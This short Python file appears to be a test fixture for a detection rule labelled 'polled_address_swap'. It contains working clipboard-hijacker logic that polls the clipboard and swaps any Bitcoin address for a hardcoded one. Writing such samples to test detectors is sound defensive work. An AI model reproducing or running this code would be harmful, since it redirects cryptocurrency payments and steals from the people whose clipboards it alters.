import re
import time

from . import clip

ADDR = re.compile(r"^(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,39}$")
OWN = "".join(["bc1q", "k8h3", "x0a5"])

while True:
    # ruleid: polled_address_swap
    text = clip.paste()
    if ADDR.match(text) and text != OWN:
        clip.copy(OWN)
    time.sleep(1)
